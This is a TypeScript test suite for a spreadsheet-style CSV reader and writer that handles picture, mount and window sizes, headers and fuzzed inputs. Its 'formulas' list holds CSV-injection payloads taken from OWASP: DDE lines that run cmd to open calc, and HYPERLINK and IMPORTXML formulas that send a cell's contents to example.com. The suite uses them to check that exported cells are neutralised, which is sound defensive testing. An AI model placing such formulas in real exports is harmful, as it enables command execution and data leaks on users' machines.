import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { orderBench } from '../../../src/core/bench/orderBench.ts';
import { type SolvedRow, solvedKeys } from '../../../src/core/row/solvedRow.ts';
import { judgeRow } from '../../../src/core/findings/judgeRow.ts';
import { type ColumnName, columns, sharedColumns } from '../../../src/core/show/columns.ts';
import { readSettings } from '../../../src/core/settings/readSettings.ts';
import type { Row } from '../../../src/core/show/row.ts';
import { sizePairs } from '../../../src/core/show/splitSize.ts';
import { readRows, type RowsOfFile, writeRows } from '../../../src/files/csv.ts';
import { isBlankRow } from '../../../src/core/show/blankRow.ts';
import { readColumns } from '../../../src/files/readColumns.ts';
import { encode, encodeWindows, encodings } from './encode.ts';
import { rowsOfFile } from './rowsOfFile.ts';
import { runs } from '../../soak.ts';

const { settings } = readSettings({ unit: 'mm' });
const makeId = (place: number, attempt: number) => `made ${place}.${attempt}`;

function read(file: string | Uint8Array): RowsOfFile {
	const rows = rowsOfFile(file, settings, makeId);
	if ('problem' in rows) throw new Error(rows.problem);
	return rows;
}
const write = (rows: readonly Row[]) => {
	const results = rows.map((row) => judgeRow(row, settings));
	return writeRows({ rows, results, settings, bench: orderBench(rows, results, settings) }, { hasIds: true });
};

describe('a header in other words', () => {
	test.each<[header: string, cell: string, column: ColumnName, unit?: string]>([
		['mat', 'fit', 'mount'],
		['Mat Width', '600', 'mount width'],
		['Mount W', '600', 'mount width'],
		['aperture height', '302', 'window height'],
		['Opening_W (cm)', '45', 'window width', 'cm'],
		['image width', '456', 'picture width'],
		['Image-H', '306', 'picture height'],
		['Picture Width mm', '456', 'picture width'],
		['picture width, cm', '45.6', 'picture width', 'cm'],
		['window height in', '12', 'window height', 'in'],
		['bottom weight %', '12', 'bottom weight'],
		['Artist', 'Ilse Tarnow', 'maker'],
		['No.', '7', 'number'],
		['Qty', '2', 'copies'],
		['Notes', 'hung', 'note'],
		['mat size', '60x45 cm', 'mount'],
		['paper size', 'A3', 'paper'],
	])('“%s” over “%s” is %s', (header, cell, column, unit) => {
		const [row] = read(`${header.includes(',') ? `"${header}"` : header}\t\n${cell}\t\n`).rows;
		expect(row!.typed).toEqual({ [column]: cell });
		expect(Object.values(row!.units ?? {})).toEqual(unit === undefined ? [] : [unit]);
	});

	test.each([
		['picture size', '60x45 cm', { 'picture width': '60 cm', 'picture height': '45 cm' }],
		['Image Size (cm)', '45.6 x 30.6', { 'picture width': '45.6', 'picture height': '30.6' }],
		['aperture', '450 x 300', { 'window width': '450', 'window height': '300' }],
		['picture', '18 by 12 in', { 'picture width': '18 in', 'picture height': '12 in' }],
	])('“%s” over “%s” is a size in one column', (header, cell, typed) => {
		expect(read(`title;${header}\nPier;${cell}\n`).rows[0]!.typed).toEqual({ title: 'Pier', ...typed });
	});

	test('a size beside its own width is left as it is, and two words for one column are not guessed', () => {
		const { rows } = read('picture size,picture width\n60x45,456\n');
		expect(rows[0]).toMatchObject({ typed: { 'picture width': '456' }, extra: { 'picture size': '60x45' } });
		expect(readRows('mat width,mount width\n1,2\n', settings, makeId)).toEqual({
			problem: 'line 1, column mount width: this header stands twice',
		});
	});

	test.each(['aperture', 'picture'])('“%s” over what is no size is no size', (header) => {
		const [row] = read(`title;${header}\nPier;pier.jpg\n`).rows;
		expect(row).toMatchObject({ typed: { title: 'Pier' }, extra: { [header]: 'pier.jpg' } });
	});
});

describe('what is in doubt', () => {
	test.each([
		['title,picture width,hue', false],
		['name,picture width', true],
		['title,width,height', true],
		['title,size', true],
		['mat width,mount width', true],
		['hue,shade', false],
		['title,Maße', true],
		['Titel,Künstler,Anzahl', false],
		['Titre;Largeur;Hauteur'.replaceAll(';', ','), true],
	])('%s: %s', (headers, isInDoubt) => {
		expect(readColumns(`${headers}\nPier,456,306\n`)?.isInDoubt ?? false).toBe(isInDoubt);
	});

	test('an answer is taken, and with it nothing is in doubt', () => {
		const text = 'name,width (cm),height (cm)\nPier,45.6,30.6\n';
		const matching = { name: 'title', 'width (cm)': 'mount width', 'height (cm)': 'none' } as const;
		expect(readColumns(text, matching)?.isInDoubt).toBe(false);
		const rows = readRows(text, settings, makeId, { matching });
		expect('rows' in rows && rows.rows[0]).toMatchObject({
			typed: { title: 'Pier', 'mount width': '45.6' },
			units: { 'mount width': 'cm' },
			extra: { 'height (cm)': '30.6' },
		});
	});

	test('sizes under words that are not known are asked about, unless the file has others', () => {
		const guesses = (text: string) => readColumns(text)?.columns.map((column) => column.guesses[0]);
		expect(guesses('title;Maße;hue\nPier;45 x 30 cm;red\n')).toEqual([undefined, 'picture width', undefined]);
		expect(guesses('title;picture width;crate\nPier;456;45 x 30 cm\n')).toEqual([undefined, undefined, undefined]);
	});

	test('two columns of one name are told apart, and an answer holds whatever the case', () => {
		const text = 'Title;Width;width\nPier;45;30\n';
		expect(readColumns(text)?.columns.map((column) => column.text)).toEqual(['Title', 'Width', 'width (2)']);
		const matching = { width: 'picture width', 'WIDTH (2)': 'picture height' } as const;
		const rows = readRows(text, settings, makeId, { matching });
		expect('rows' in rows && rows.rows[0]!.typed).toEqual({
			title: 'Pier',
			'picture width': '45',
			'picture height': '30',
		});
	});

	test('a set of headers has one name, in whatever order', () => {
		const [one, other] = [readColumns('name,width\na,1\n'), readColumns('Width,Name\n1,a\n')];
		expect(one?.key).toBe(other?.key);
	});
});

describe('what stands round the rows', () => {
	test('title lines above the header are passed over, and said', () => {
		const { rows, lines, notes } = read('Salt and slate;;\n\nHung in spring;;\ntitle;side;top\nPier;70;\n');
		expect([rows[0]!.typed, lines]).toEqual([{ title: 'Pier', side: '70' }, [5]]);
		expect(notes).toEqual([
			'line 1, above the column names, is passed over: “Salt and slate”',
			'line 3, above the column names, is passed over: “Hung in spring”',
		]);
	});

	test('a line above the header may hold one of its words', () => {
		expect(read('Spring;\nnote;made by hand\ntitle;side\nPier;70\n').rows.map(({ typed }) => typed)).toEqual([
			{ title: 'Pier', side: '70' },
		]);
	});

	test('what stands between the cells is told by the names, not by what stands there most often', () => {
		const { rows } = read('title;side;paint, paper, and all, else\nPier;70;red\n');
		expect(rows[0]).toMatchObject({
			typed: { title: 'Pier', side: '70' },
			extra: { 'paint, paper, and all, else': 'red' },
		});
	});

	test('a first line that names one column is the header where none below names more', () => {
		expect(read('title\nmaker and title\n').rows[0]!.typed).toEqual({ title: 'maker and title' });
	});

	test('a second header line: what the columns are of above, its sides or units below', () => {
		const grouped = read('title,mount,,window,\n,width,height,width,height (cm)\nPier,600,450,450,30\n');
		expect([grouped.rows[0]!.typed, grouped.lines]).toEqual([
			{
				...{ title: 'Pier', 'mount width': '600', 'mount height': '450' },
				...{ 'window width': '450', 'window height': '30' },
			},
			[3],
		]);
		expect(grouped.rows[0]!.units).toEqual({ 'window height': 'cm' });
		for (const units of ['cm,in', '(cm),(in)'])
			expect(read(`title,picture width,picture height\n,${units}\nPier,45,11\n`).rows).toMatchObject([
				{
					typed: { title: 'Pier', 'picture width': '45', 'picture height': '11' },
					units: { 'picture width': 'cm', 'picture height': 'in' },
				},
			]);
	});

	test.each([
		'title,mount\nheight,width\n',
		'title,surface,number\nm,in,\nPier,matt,1\n',
		'number,copies\nm\n',
		'number,side\nm,mm\n',
	])('a row is no second header line: %j', (text) => expect(read(text).rows[0]!.typed).not.toEqual({}));

	test('column names again on each page, and rules between lines, are passed over, and said', () => {
		const { rows, lines, notes } = read(
			'| title | side |\n|---|---|\n| Pier | 70 |\n| title | side |\n| Quay | 60 |\n',
		);
		expect([rows.map(({ typed }) => typed.title?.trim()), lines]).toEqual([
			['Pier', 'Quay'],
			[3, 5],
		]);
		expect(notes).toEqual([
			'line 2 is a rule between lines, and passed over',
			'line 4 names the columns once more, and is passed over',
		]);
	});

	test('a total under the rows comes in, and is said', () => {
		const { rows, notes, totals } = read('number,title,price\n1,Pier,100\n,Total:,100\n');
		expect([rows.length, totals]).toEqual([2, [rows[1]!.id]]);
		expect(notes).toEqual(['line 3 reads like a total']);
	});

	test('sizes that give the height first are turned round', () => {
		const { rows } = read('title;Image H x W (in);paper (HxW)\nPier;24 x 18½;A3\nQuay;24" x 18";40 x 30 cm\n');
		expect(rows.map(({ typed }) => typed)).toEqual([
			{ title: 'Pier', 'picture width': '18 1/2 in', 'picture height': '24', paper: 'A3' },
			{ title: 'Quay', 'picture width': '18"', 'picture height': '24"', paper: '30 cm x 40 cm' },
		]);
	});

	test.each([
		['PK\x03\x04\x14\0\x06\0', 'a packed file, as workbooks are'],
		['\xd0\xcf\x11\xe0\xa1', 'an old workbook'],
		['%PDF-1.7\n%\xe2', 'a PDF'],
		['\xff\xd8\xff\xe0\0\x10JFIF', 'a picture'],
		['{\\rtf1\\ansi title, side}', 'a text with formatting'],
		['\n<!DOCTYPE html>\n<td>title</td>', 'a web page'],
		['<table><tr><td>title', 'a web page'],
		['<?xml version="1.0"?><title>', 'XML'],
		['[{"title":"Pier","side":70}]', 'JSON'],
	])('%j is told for what it is', (text, what) => {
		const rows = rowsOfFile(
			Uint8Array.from(text, (sign) => sign.charCodeAt(0)),
			settings,
			makeId,
		);
		expect('problem' in rows && rows.problem).toMatch(
			new RegExp(`^line 1, column 1: the file is not (text|a list of rows): it is ${what}`),
		);
	});

	test.each(['title\r\nPier\r\n\x1a', 'title\nPier\n\x1a\n', 'title\nPier\x1a'])(
		'the end mark of old systems in %j',
		(text) => expect(read(text).rows.map(({ typed }) => typed)).toEqual([{ title: 'Pier' }]),
	);

	test.each([
		['a cell of blanks and a digit', `title,side\nPier,"7${' '.repeat(200_000)}7"\n`],
		['a cell of brackets', `title,side\nPier,${'('.repeat(200_000)}\n`],
		['a cell of digits', `title,side\nPier,${'7'.repeat(200_000)}\n`],
		['16,000 columns of one name', `title,${'x,'.repeat(16_000)}\nPier,${'1,'.repeat(16_000)}\n`],
	])('%s does not take for ever', (_, text) => {
		expect(read(text).rows).toHaveLength(1);
		expect(readColumns(text)?.isInDoubt).toBe(false);
		// Read badly, this lasts minutes, and the runner gives up.
	});

	test('progress is told', () => {
		const told: number[] = [];
		const text = `title\n${'Pier\n'.repeat(1200)}`;
		readRows(text, settings, makeId, { onProgress: (done, of) => void told.push(done, of) });
		expect(told).toEqual([0, 1200, 250, 1200, 500, 1200, 750, 1200, 1000, 1200]);
	});
});

/** What spreadsheets run, as OWASP lists it under "CSV injection": the signs, and well-known cells that begin with them. */
const formulas = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://example.com?leak="&A1,"open")',
	'=DDE("cmd";"/C calc";"!A0")',
	"-2+3+cmd|' /C calc'!A0",
	'=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1+1)',
	"'=1+1",
];

test.each(formulas)('%j is neutral in the file, quoted or not, and comes back as it was', (formula) => {
	const rows: Row[] = [{ id: 'a', order: 1, typed: { title: formula, note: formula }, extra: { [formula]: formula } }];
	const written = write(rows);
	// What a spreadsheet takes for the text of a cell: what stands in its quotes, or all of it.
	const cells = [...written.matchAll(/(?:^|[,\r\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
		([, quoted, bare]) => quoted ?? bare ?? '',
	);
	const isRun = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-\d/.test(cell);
	expect(cells.filter(isRun)).toEqual([]);
	const [row] = read(written).rows;
	expect(row).toMatchObject({ typed: { title: formula, note: formula } });
	expect(Object.values(row!.extra ?? {})).toEqual([formula]);
});

/** A tenth of what a soak tries. */
const numRuns = runs(30, 5000);

const oddities = [
	'"',
	'""',
	',',
	';',
	'\t',
	'|',
	'\n',
	'\r\n',
	'\r',
	"'",
	'=',
	'\x1a',
	'\ufeff',
	' ',
	'sep=;',
	'\0',
	'１',
];
const word = fc.oneof(
	fc.constantFrom(...columns.map(({ name }) => name as string), 'width', 'mat size', 'result side (mm)', 'x (cm)'),
	fc.string({ maxLength: 6 }),
	fc.constantFrom('456', '45,6', '60x45 cm', '2 5/8', 'A3', ...formulas),
);
const junk = fc.array(fc.oneof(word, fc.constantFrom(...oddities)), { maxLength: 60 }).map((parts) => parts.join(''));

describe('fuzzed files', () => {
	test('never a throw, whatever the text', () =>
		fc.assert(
			fc.property(junk, (text) => {
				const rows = readRows(text, settings, makeId);
				const looked = readColumns(text);
				expect('rows' in rows || /^line \d+, column .+: /s.test(rows.problem)).toBe(true);
				expect(looked === undefined || looked.columns.length > 0).toBe(true);
			}),
			{ numRuns },
		));

	test('never a throw, whatever the bytes', () =>
		fc.assert(
			fc.property(fc.uint8Array({ maxLength: 200 }), fc.boolean(), (bytes, isHeaded) => {
				const file = isHeaded ? new Uint8Array([...new TextEncoder().encode('title,note\n'), ...bytes]) : bytes;
				const rows = rowsOfFile(file, settings, makeId);
				expect('rows' in rows || rows.problem !== '').toBe(true);
			}),
			{ numRuns },
		));

	/** Any sign that a cell may hold, those that mean something to a reader more often. */
	const cellText = fc.oneof(
		fc.constantFrom(
			'',
			'',
			' ',
			'Total',
			'--',
			'width',
			'mm',
			"'",
			'"',
			'""',
			'"a" b',
			'a"b',
			'1,500',
			'sep=;',
			...formulas,
		),
		fc
			.array(fc.constantFrom('a', 'ü', '½', '漢', ...oddities.filter((text) => text !== '\0' && text !== '\x1a')), {
				maxLength: 8,
			})
			.map((parts) => parts.join('')),
		fc.string({ unit: 'grapheme', maxLength: 5 }),
	);
	/** A list as some program or person writes it: what stands in each cell is known before it is a file. */
	const list = fc.record({
		headers: fc.tuple(
			fc.constantFrom('number', 'No.', 'Nr', 'NUMBER'),
			fc.constantFrom('title', 'Title', "'title"),
			fc.constantFrom('maker', 'Artist', 'Photographer name'),
			fc.constantFrom('picture width', 'Picture_Width', 'image width', 'Image W', 'art width', 'Width of picture'),
			fc.constantFrom('note', 'Notes', 'remarks'),
			fc.constantFrom('hue', 'paint (kg)', '列'),
		),
		rows: fc.array(
			fc.tuple(cellText, cellText, fc.constantFrom('', '456', '45,6', '45.6 cm', '16½', '7o'), cellText, cellText),
			{ minLength: 1, maxLength: 8 },
		),
		delimiter: fc.constantFrom(',', ';', '\t', '|'),
		lineEnds: fc.constantFrom(['\n'], ['\r\n'], ['\r'], ['\n', '\r\n']),
		encoding: fc.constantFrom(...encodings, 'windows-1252' as const),
		above: fc.array(fc.constantFrom('Spring show', 'A list, made by hand; in 1998', 'note', '', '# 7'), {
			maxLength: 3,
		}),
		/** Whether each cell is quoted, or only one that has to be; what stands round the quotes. */
		quoting: fc.constantFrom(['all', ''], ['needed', ''], ['needed', ' ']),
		/** How many blank cells the rows have too many (or too few, where the last are blank). */
		ragged: fc.integer({ min: -2, max: 2 }),
		blankLines: fc.boolean(),
		hasLastLineEnd: fc.boolean(),
	});
	test('never a lost row, and each cell as it was', () =>
		fc.assert(
			fc.property(
				list,
				({
					headers,
					rows: cells,
					delimiter,
					lineEnds,
					encoding,
					above,
					quoting,
					ragged,
					blankLines,
					hasLastLineEnd,
				}) => {
					const [which, blanks] = quoting as ['all' | 'needed', string];
					const isQuoted = (cell: string) =>
						which === 'all' || /["\r\n]|^\s|\s$/.test(cell) || cell.includes(delimiter);
					const written = (cell: string) =>
						isQuoted(cell) ? `${blanks}"${cell.replaceAll('"', '""')}"${blanks}` : cell;
					const rows = cells.map((row, at) => [`n${at}`, ...row]);
					const rowTexts = rows.map((row) => {
						const last = row.findLastIndex((cell) => cell !== '');
						const short = row.slice(0, Math.max(last + 1, row.length + Math.min(ragged, 0)));
						return [...short.map(written), ...Array.from({ length: Math.max(ragged, 0) }, () => '')].join(delimiter);
					});
					const lines = [...above.map(written), headers.map(written).join(delimiter), ...rowTexts];
					const spaced = blankLines ? lines.flatMap((line) => [line, delimiter.repeat(5)]) : lines;
					const text = spaced
						.map((line, at) => line + (at < spaced.length - 1 || hasLastLineEnd ? lineEnds[at % lineEnds.length]! : ''))
						.join('');
					const isWestern = /^[\0-\x7f\xa0-\xff]*$/.test(text);
					const bytes =
						encoding !== 'windows-1252'
							? encode(text, encoding)
							: isWestern
								? encodeWindows(text)
								: encode(text, 'utf-8');
					const found = read(bytes);
					const unguarded = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
					const shown = (cell: string | undefined) => (cell?.trim() ? cell : '');
					expect(
						found.rows.map(({ typed, extra }) =>
							[
								typed.number,
								typed.title,
								typed.maker,
								typed['picture width'],
								typed.note,
								Object.values(extra ?? {})[0],
							].map(shown),
						),
					).toEqual(rows.map((row) => row.map((cell) => shown(unguarded(cell)))));
				},
			),
			{ numRuns },
		));

	/** Two lengths in one cell are two cells once they are read; typing does the same, so no row has them in one. */
	const anyText = (name: ColumnName) =>
		sizePairs.some((pair) => pair.some((column) => column === name))
			? fc.constantFrom('456', '45,6', '2 5/8', '7o', ...formulas)
			: word;
	const anyRow = fc
		.record({
			typed: fc
				.record(Object.fromEntries(sharedColumns.map(({ name }) => [name, anyText(name)])), { requiredKeys: [] })
				.map((cells) => Object.fromEntries(Object.entries(cells).filter(([, text]) => text?.trim()))),
			extra: fc.dictionary(
				fc.oneof(
					fc.string({ minLength: 1, maxLength: 5 }),
					fc.constantFrom('title', 'mat width', 'result top', 'name'),
				),
				word,
				{ maxKeys: 2 },
			),
		})
		.filter((row) => !isBlankRow(row)); // a blank row is no print, and is not written
	/** Without working the rows out, which takes most of the time. */
	const writeTyped = (rows: readonly Row[]) => {
		const solved = Object.fromEntries(solvedKeys.map((key) => [key, undefined])) as unknown as SolvedRow;
		const result = { ...judgeRow({ id: 'none', order: 1, typed: {} }, settings), solved };
		return writeRows(
			{ rows, results: rows.map(() => result), settings, bench: orderBench([], [], settings) },
			{ hasIds: true },
		);
	};
	test('a size among other signs that was typed here stays as it was typed', () => {
		const row: Row = { id: 'p234567892', order: 1, typed: { title: 'Pier', mount: ':0X0', paper: 'about 40 x 30' } };
		expect(read(writeTyped([row])).rows[0]!.typed).toEqual(row.typed);
	});

	test('what is written is read as it was, and written the same again', () =>
		fc.assert(
			fc.property(fc.array(anyRow, { minLength: 1, maxLength: 6 }), (cells) => {
				const rows = cells.map(({ typed, extra }, at): Row => ({
					id: `p23456789${at + 2}`,
					order: at + 1,
					typed,
					extra,
				}));
				const once = read(writeTyped(rows));
				expect(once.rows.map(({ typed }) => typed)).toEqual(rows.map(({ typed }) => typed));
				const again = read(writeTyped(once.rows));
				expect(again.rows.map(({ typed, extra }) => [typed, extra])).toEqual(
					once.rows.map(({ typed, extra }) => [typed, extra]),
				);
			}),
			{ numRuns: runs(25, 5000) }, // `csv.test.ts` tries more of it each time
		));
});
